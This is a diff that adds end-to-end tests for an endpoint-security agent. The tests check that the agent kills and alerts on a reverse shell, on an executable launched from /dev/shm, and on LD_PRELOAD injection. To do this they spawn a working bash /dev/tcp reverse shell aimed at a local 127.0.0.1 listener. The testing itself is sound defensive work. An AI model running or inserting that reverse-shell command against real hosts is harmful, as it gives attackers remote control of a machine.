@@ -6,6 +6,7 @@ import assert from 'node:assert/strict';
 import { execFile, execFileSync, spawn, type ChildProcess } from 'node:child_process';
 import { createHash, randomBytes } from 'node:crypto';
 import { appendFileSync, chmodSync, copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -244,9 +245,107 @@ describe('agent end to end: real server, real agent process, real exec gate', { 
       p.blocklist = [{ sha256: bad.sha }];
     });
     assert.equal((await exec1(bad.path)).code, 0, 'monitor mode stops nothing');
-    const alert = await waitFor('the would-have alert at the server', async () => (await alerts()).find((a) => a.sha256 === bad.sha));
+    // (the behaviour rule for programs run from /tmp alerts on the same file: pick the blocklist's alert)
+    const alert = await waitFor('the would-have alert at the server', async () =>
+      (await alerts()).find((a) => a.sha256 === bad.sha && a.ruleId === 'yamori.blocklist'),
+    );
     assert.equal(alert.mode, 'monitor');
     assert.equal(alert.event.yamori?.would_have, 'deny_exec');
+  });
+
+  // Behaviour rules (Yamori's Sigma pack) act after a program started: in block mode the agent kills
+  // the process (tree) through a pidfd, in monitor mode the same actions run and "would have" alerts arrive.
+  const REVERSE_SHELL_RULE = '21fafb3a-dbc5-4984-8ee1-7354007e6ddb';
+  const DEV_SHM_RULE = (/^id: (\S+)$/m.exec(readFileSync(new URL('../../../packages/detection/rules/yamori/exec_from_dev_shm.yml', import.meta.url), 'utf8')) ?? [])[1] ?? '';
+  const LD_PRELOAD_RULE = '2070309c-7498-4afd-81cf-384ed48e0a29';
+  /** A reverse shell to a listener on 127.0.0.1; resolves with how the shell ended and whether it connected. */
+  const reverseShell = async (lifeMs: number) => {
+    const listener = createServer((sock) => {
+      connected = true;
+      sock.on('error', () => undefined);
+    });
+    let connected = false;
+    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
+    const lport = (listener.address() as AddressInfo).port;
+    try {
+      const shell = spawn('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${lport} 0>&1`], { stdio: 'ignore', detached: true });
+      const ended = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((r) => shell.once('exit', (code, signal) => r({ code, signal })));
+      const outcome = await Promise.race([ended, sleep(lifeMs).then(() => 'alive' as const)]);
+      if (outcome === 'alive') {
+        process.kill(-(shell.pid ?? 0), 'SIGKILL'); // its own process group (detached)
+        await ended;
+      }
+      return { outcome, connected };
+    } finally {
+      listener.close();
+    }
+  };
+  const devShmSleeper = () => {
+    const path = `/dev/shm/yamori-e2e-${randomBytes(4).toString('hex')}`;
+    copyFileSync('/bin/sleep', path);
+    chmodSync(path, 0o755);
+    return path;
+  };
+  const runFor = (file: string, args: string[], env: NodeJS.ProcessEnv, lifeMs: number) =>
+    new Promise<{ code: number | null; signal: NodeJS.Signals | null } | 'alive'>((resolve) => {
+      const c = spawn(file, args, { stdio: 'ignore', env });
+      const timer = setTimeout(() => {
+        c.kill('SIGKILL');
+        resolve('alive');
+      }, lifeMs);
+      c.once('exit', (code, signal) => {
+        clearTimeout(timer);
+        resolve({ code, signal });
+      });
+    });
+
+  it('behaviour, block mode: a reverse shell is killed and alerted, a program from /dev/shm is killed, LD_PRELOAD injection is detected', async () => {
+    await deploy((p) => {
+      p.modules.behavior.mode = 'block';
+    });
+    const shell = await reverseShell(15_000);
+    assert.notEqual(shell.outcome, 'alive', 'the reverse shell was stopped');
+    assert.equal(shell.outcome === 'alive' ? null : shell.outcome.signal, 'SIGKILL', 'killed by the agent');
+    const rs = await waitFor('the reverse-shell alert', async () => (await alerts()).find((a) => a.ruleId === REVERSE_SHELL_RULE && a.mode === 'block'));
+    assert.equal(rs.action, 'kill_tree');
+
+    const shm = devShmSleeper();
+    try {
+      const r = await runFor(shm, ['30'], {}, 15_000);
+      assert.notEqual(r, 'alive', 'the /dev/shm program was stopped');
+      assert.equal(r === 'alive' ? null : r.signal, 'SIGKILL');
+      const a = await waitFor('the /dev/shm alert', async () => (await alerts()).find((x) => x.ruleId === DEV_SHM_RULE && x.mode === 'block'));
+      assert.equal(a.action, 'kill_process');
+      assert.equal(a.processExecutable, shm);
+    } finally {
+      rmSync(shm, { force: true });
+    }
+
+    const pre = await runFor('/bin/sleep', ['1'], { LD_PRELOAD: '/nonexistent/libyamori-e2e-hook.so' }, 15_000);
+    assert.deepEqual(pre, { code: 0, signal: null }, 'an alert-only rule stops nothing');
+    const ld = await waitFor('the LD_PRELOAD alert', async () => (await alerts()).find((x) => x.ruleId === LD_PRELOAD_RULE && x.mode === 'block'));
+    assert.equal(ld.processExecutable, '/usr/bin/sleep');
+  });
+
+  it('behaviour, monitor mode: the same actions run and "would have" alerts reach the server', async () => {
+    await deploy((p) => {
+      p.modules.behavior.mode = 'monitor';
+    });
+    const shell = await reverseShell(3000);
+    assert.equal(shell.outcome, 'alive', 'monitor mode kills nothing');
+    assert.ok(shell.connected, 'the shell reached its listener');
+    const rs = await waitFor('the would-have alert', async () => (await alerts()).find((a) => a.ruleId === REVERSE_SHELL_RULE && a.mode === 'monitor'));
+    assert.equal(rs.action, 'would_kill_tree');
+    assert.equal(rs.event.yamori?.would_have, 'kill_tree');
+
+    const shm = devShmSleeper();
+    try {
+      assert.deepEqual(await runFor(shm, ['1'], {}, 15_000), { code: 0, signal: null });
+      const a = await waitFor('the /dev/shm would-have alert', async () => (await alerts()).find((x) => x.ruleId === DEV_SHM_RULE && x.mode === 'monitor'));
+      assert.equal(a.action, 'would_kill_process');
+    } finally {
+      rmSync(shm, { force: true });
+    }
   });
 
   it('a hash imported into intelligence as malicious is blocked at exec in block mode within seconds, without restarting anything', async () => {
